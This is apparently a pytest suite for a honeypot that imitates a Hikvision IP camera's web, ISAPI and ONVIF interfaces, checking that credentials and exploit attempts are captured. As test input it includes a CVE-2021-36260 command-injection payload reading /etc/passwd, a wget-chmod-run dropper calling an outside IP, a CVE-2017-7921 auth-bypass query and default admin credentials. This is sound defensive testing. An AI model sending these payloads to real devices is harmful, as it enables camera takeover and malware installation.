"""The hikvision persona's web server (port 80) driven by real clients:
curl as browsers, scanners and exploit kits send requests, nmap -sV, and
raw sockets where the exact bytes matter. Events must carry the captured
credentials, the exploit tags, the injected commands and their URLs."""
import base64
import datetime
import hashlib
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest

from conftest import kept_alive_close, persona, recv_to_eof, tcp

persona("hikvision")

NUCLEI_36260 = ('<?xml version="1.0" encoding="UTF-8"?>'
                '<language>$(cat /etc/passwd>webLib/x)</language>')
SOAP = "http://www.w3.org/2003/05/soap-envelope"


@pytest.fixture
def cam(lure, tmp_path):
    s = lure({"state_file": str(tmp_path / "cam.state")})
    s.base = f"http://127.0.0.1:{s.port(80)}"
    s.ident = {}
    for line in (tmp_path / "cam.state").read_text().splitlines():
        w = line.split(" ", 2)
        if w[0] == "value":
            s.ident[w[1]] = w[2]
    return s


def curl(*args, timeout=10):
    """curl -s -i ARGS -> (status, headers dict (lower-case), body)."""
    r = subprocess.run(["curl", "-s", "-i", "--max-time", "5", *args],
                       capture_output=True, timeout=timeout)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    # with --digest curl prints the 401 exchange first: keep the last answer
    heads = [m.start() for m in re.finditer(rb"HTTP/1\.[01] \d\d\d ", out)]
    out = out[heads[-1]:]
    head, _, body = out.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {}
    for l in lines[1:]:
        k, _, v = l.partition(":")
        headers[k.strip().lower()] = v.strip()
    return status, headers, body


def raw(s, req):
    c = tcp(s.port(80))
    c.sendall(req)
    data, closed = recv_to_eof(c)
    c.close()
    assert closed, "an HTTP/1.0 answer closes the connection"
    return data


# --- what the web server looks like -------------------------------------------

def test_index_as_nmap_gets_it(cam):
    data = raw(cam, b"GET / HTTP/1.0\r\n\r\n")
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    assert lines[0] == b"HTTP/1.0 200 OK"
    names = [l.split(b":")[0] for l in lines[1:]]
    assert names == [b"Date", b"Server", b"X-Frame-Options",
                     b"X-Content-Type-Options", b"X-XSS-Protection", b"ETag",
                     b"Content-Length", b"Content-Type", b"Connection",
                     b"Last-Modified"]
    assert b"Server: webserver" in lines
    assert b"Connection: close" in lines
    assert re.search(rb"Date: \w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT", head)
    assert re.search(rb'ETag: "[0-9a-f]+-[0-9a-f]+"', head)
    assert body.startswith(b"\xef\xbb\xbf<!doctype html>\r\n<html>")
    assert b'"doc/page/login.asp?_"' in body
    assert int(re.search(rb"Content-Length: (\d+)", head).group(1)) == len(body)
    ev = cam.wait_event("request", url__path="/")
    assert ev["http"]["version"] == "1.0"


def test_browser_visit_keeps_alive_and_loads_login_assets(cam):
    st, h, body = curl(cam.base + "/")
    assert st == 200 and h["connection"] == "keep-alive"
    assert h["keep-alive"].startswith("timeout=10, max=")
    m = re.search(rb'"(doc/page/login\.asp\?_)"', body)
    st, h, page = curl(cam.base + "/" + m.group(1).decode() + "1767323045000")
    assert st == 200 and h["content-type"] == "text/html"
    for ref in re.findall(rb'(?:href|src)="\.\./([^"]+)"', page):
        st, h, _ = curl(cam.base + "/doc/" + ref.decode())
        assert st == 200, ref
    # a revalidation with the ETag it was given
    st, h, _ = curl(cam.base + "/")
    st2, _, body2 = curl("-H", f"If-None-Match: {h['etag']}", cam.base + "/")
    assert st2 == 304 and body2 == b""


def test_kept_alive_connection_closes_when_keep_alive_says(cam):
    """Keep-Alive: timeout=10 is what the camera promises: an idle kept-alive
    connection ends with a FIN 10 s after the answer, not at lure's 60 s."""
    data, closed, took = kept_alive_close(
        cam.port(80), b"GET / HTTP/1.1\r\nHost: cam\r\n\r\n", 25)
    assert data.startswith(b"HTTP/1.1 200 OK") and b"timeout=10" in data
    assert closed and 9.5 <= took <= 13, took


def test_not_found_page(cam):
    data = raw(cam, b"GET /nothing HTTP/1.0\r\n\r\n")
    assert re.match(rb"HTTP/1\.0 404 Not Found\r\nDate: .* GMT\r\n"
                    rb"Server: webserver\r\nX-Frame-Options: SAMEORIGIN\r\n"
                    rb"X-Content-Type-Options: nosniff\r\n"
                    rb"X-XSS-Protection: 1;mode=block\r\n"
                    rb"Cache-Control: no-cache\r\nContent-Length: \d+\r\n"
                    rb"Content-Type: text/html\r\nConnection: close\r\n\r\n"
                    rb"<!DOCTYPE html>\r\n<html>", data), data[:400]


# (nmap -sV on every port, with Debian 12's and Debian 13's service
# databases: test_hik_nmap.py)


# --- ISAPI and credentials -----------------------------------------------------

def test_isapi_asks_for_digest_as_the_camera_does(cam):
    st, h, body = curl(cam.base + "/ISAPI/System/deviceInfo")
    assert st == 401 and len(body) == 178
    assert body.startswith(b"<!DOCTYPE html>\r\n<html><head><title>Document Error: Unauthorized")
    m = re.fullmatch(r'Digest qop="auth", realm="IP Camera\(([0-9A-F]\d{4})\)", '
                     r'nonce="([0-9a-f]+)", stale="FALSE"', h["www-authenticate"])
    assert m and m.group(1) == cam.ident["realm_id"]
    plain = base64.b64decode(bytes.fromhex(m.group(2)))
    assert re.fullmatch(rb"[0-9a-f]+:[0-9a-f]+", plain)
    # a fresh nonce each time
    _, h2, _ = curl(cam.base + "/ISAPI/System/deviceInfo")
    assert h2["www-authenticate"] != h["www-authenticate"]


def test_digest_login_works_for_admin_12345_and_is_logged(cam):
    st, h, body = curl("--digest", "-u", "admin:12345",
                       cam.base + "/ISAPI/System/deviceInfo")
    assert st == 200 and h["content-type"] == "application/xml"
    info = ET.fromstring(body)
    ns = "{http://www.hikvision.com/ver20/XMLSchema}"
    assert info.find(ns + "serialNumber").text == cam.ident["serial"]
    assert info.find(ns + "macAddress").text == cam.ident["mac"]
    assert info.find(ns + "model").text == "DS-2CD2143G0-I"
    assert info.find(ns + "firmwareVersion").text == "V5.5.82"
    assert info.find(ns + "firmwareReleasedDate").text == "build 190909"
    ok = cam.wait_event("login", event__outcome="success")
    assert ok["user"]["name"] == "admin"
    a = ok["lure"]["auth"]
    assert a["scheme"] == "digest" and a["uri"] == "/ISAPI/System/deviceInfo"
    assert a["realm"] == f"IP Camera({cam.ident['realm_id']})"
    assert re.fullmatch(r"[0-9a-f]{32}", a["response"]) and a["nonce"] and a["cnonce"]
    # the same with a wrong password: 401, captured as a failure
    st, _, _ = curl("--digest", "-u", "admin:hunter2",
                    cam.base + "/ISAPI/Security/userCheck")
    assert st == 401
    bad = cam.wait_event("login", event__outcome="failure",
                         lure__auth__uri="/ISAPI/Security/userCheck")
    assert bad["user"]["name"] == "admin"
    st, _, body = curl("--digest", "-u", "admin:12345",
                       cam.base + "/ISAPI/Security/userCheck")
    assert st == 200 and b"<statusValue>200</statusValue>" in body


def test_basic_credentials_captured_not_accepted(cam):
    st, h, _ = curl("-u", "root:pass w0rd", cam.base + "/ISAPI/Security/userCheck")
    assert st == 401 and h["www-authenticate"].startswith("Digest ")
    ev = cam.wait_event("login", user__name="root")
    assert ev["lure"]["auth"]["password"] == "pass w0rd"
    assert ev["event"]["outcome"] == "failure"


def test_unauthenticated_endpoints(cam):
    st, h, body = curl(cam.base + "/SDK/activateStatus")
    assert st == 200 and b"<Activated>true</Activated>" in body
    st, h, body = curl(cam.base + "/ISAPI/Security/sessionLogin/capabilities?username=admin")
    assert st == 200
    cap = ET.fromstring(body)
    ns = "{http://www.hikvision.com/ver20/XMLSchema}"
    assert cap.find(ns + "salt").text == cam.ident["http_salt"]
    assert re.fullmatch(r"[0-9a-f]{32}", cap.find(ns + "challenge").text)
    st, h, body = curl(cam.base + "/SDK/webLanguage")
    assert st == 200 and h["content-type"] == "application/xml"


# --- exploits -----------------------------------------------------------------

def test_cve_2021_36260_as_nuclei_sends_it(cam):
    st, h, body = curl("-X", "PUT", "-H",
                       "Content-Type: application/x-www-form-urlencoded; charset=UTF-8",
                       "--data-binary", NUCLEI_36260, cam.base + "/SDK/webLanguage")
    assert st == 500 and b"<ResponseStatus" in body  # the vulnerable firmware's answer
    ev = cam.wait_event("exploit", vulnerability__id="CVE-2021-36260")
    assert ev["lure"]["command"] == ["cat /etc/passwd>webLib/x"]
    assert {"exploit", "hikvision", "command_injection", "rce"} <= set(ev["tags"])
    assert ev["event"]["kind"] == "alert"
    assert ev["http"]["request"]["method"] == "PUT"
    # nothing ran: the file the command would have written is not there
    st, _, body = curl(cam.base + "/x")
    assert st == 404 and b"root:" not in body
    req = cam.wait_event("request", url__path="/SDK/webLanguage")
    assert req["http"]["request"]["body"]["content"] == NUCLEI_36260


def test_cve_2021_36260_dropper_urls_and_ips(cam):
    body = ("<language>$(cd /tmp;wget http://198.51.100.7:8080/hik.arm7 -O h"
            "&amp;&amp;chmod 777 h;./h 203.0.113.9)</language>")
    st, _, _ = curl("-X", "PUT", "--data-binary", body, cam.base + "/SDK/webLanguage")
    assert st == 500
    ev = cam.wait_event("exploit", vulnerability__id="CVE-2021-36260")
    assert ev["lure"]["command"] == [
        "cd /tmp", "wget http://198.51.100.7:8080/hik.arm7 -O h", "chmod 777 h",
        "./h 203.0.113.9"]
    assert ev["lure"]["indicators"]["url"] == ["http://198.51.100.7:8080/hik.arm7"]
    assert ev["lure"]["indicators"]["ip"] == ["198.51.100.7", "203.0.113.9"]
    # a real language change is no exploit
    st, _, _ = curl("-X", "PUT", "--data-binary", "<language>en</language>",
                    cam.base + "/SDK/webLanguage")
    assert st == 200
    cam.wait_count(2, "request", url__path="/SDK/webLanguage")
    assert len(cam.find("exploit")) == 1


@pytest.mark.parametrize("path", ["/system/deviceInfo", "/Security/users",
                                  "/onvif-http/snapshot", "/System/configurationFile"])
def test_cve_2017_7921_tagged_not_vulnerable(cam, path):
    st, h, body = curl(cam.base + path + "?auth=YWRtaW46MTEK")
    assert st == 401 and b"<firmwareVersion>" not in body  # V5.5.82 is not vulnerable
    ev = cam.wait_event("exploit", vulnerability__id="CVE-2017-7921")
    assert ev["url"]["original"] == path + "?auth=YWRtaW46MTEK"
    assert "auth_bypass" in ev["tags"]


# --- ONVIF --------------------------------------------------------------------

def soap(cam, body, header=""):
    env = (f'<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="{SOAP}">'
           f"<s:Header>{header}</s:Header><s:Body>{body}</s:Body></s:Envelope>")
    return curl("-H", "Content-Type: application/soap+xml; charset=utf-8",
                "--data-binary", env, cam.base + "/onvif/device_service")


def wsse(user, password):
    nonce = os.urandom(16)
    created = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    digest = base64.b64encode(hashlib.sha1(nonce + created.encode() + password.encode()).digest())
    return ('<Security s:mustUnderstand="1" xmlns="http://docs.oasis-open.org/wss/2004/01/'
            'oasis-200401-wss-wssecurity-secext-1.0.xsd"><UsernameToken>'
            f"<Username>{user}</Username><Password Type=\"http://docs.oasis-open.org/wss/2004/01/"
            f'oasis-200401-wss-username-token-profile-1.0#PasswordDigest">{digest.decode()}</Password>'
            f"<Nonce>{base64.b64encode(nonce).decode()}</Nonce>"
            '<Created xmlns="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-'
            f'utility-1.0.xsd">{created}</Created></UsernameToken></Security>')


DEV = '<GetDeviceInformation xmlns="http://www.onvif.org/ver10/device/wsdl"/>'


def test_onvif_time_needs_no_credentials(cam):
    st, h, body = soap(cam, '<GetSystemDateAndTime xmlns="http://www.onvif.org/ver10/device/wsdl"/>')
    assert st == 200 and h["content-type"].startswith("application/soap+xml")
    tt = "{http://www.onvif.org/ver10/schema}"
    utc = ET.fromstring(body).find(f".//{tt}UTCDateTime")
    d = {e.tag.replace(tt, ""): int(e.text) for e in utc.iter() if e.text and e.text.isdigit()}
    then = datetime.datetime(d["Year"], d["Month"], d["Day"], d["Hour"], d["Minute"],
                             d["Second"], tzinfo=datetime.timezone.utc)
    now = datetime.datetime.now(datetime.timezone.utc)
    assert abs((now - then).total_seconds()) < 5


def test_onvif_device_information_with_ws_security(cam):
    st, _, body = soap(cam, DEV)
    assert st == 401 and b"ter:NotAuthorized" in body
    st, _, body = soap(cam, DEV, wsse("admin", "wrong"))
    assert st == 401
    bad = cam.wait_event("login", event__outcome="failure", lure__auth__scheme="wsse-digest")
    assert bad["user"]["name"] == "admin" and bad["lure"]["auth"]["created"]
    st, _, body = soap(cam, DEV, wsse("admin", "12345"))
    assert st == 200
    tds = "{http://www.onvif.org/ver10/device/wsdl}"
    r = ET.fromstring(body).find(f".//{tds}GetDeviceInformationResponse")
    got = {e.tag.replace(tds, ""): e.text for e in r}
    assert got == {"Manufacturer": "HIKVISION", "Model": "DS-2CD2143G0-I",
                   "FirmwareVersion": "V5.5.82 build 190909",
                   "SerialNumber": cam.ident["serial"], "HardwareId": "88"}
    cam.wait_event("login", event__outcome="success", lure__auth__scheme="wsse-digest")
